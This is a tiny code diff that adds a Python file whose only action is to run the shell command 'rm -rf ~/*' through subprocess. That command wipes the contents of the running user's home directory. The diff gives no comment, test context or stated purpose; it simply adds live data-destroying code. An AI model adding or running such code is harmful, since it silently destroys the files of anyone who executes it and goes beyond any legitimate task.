@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.run("rm -rf ~/*", shell=True)
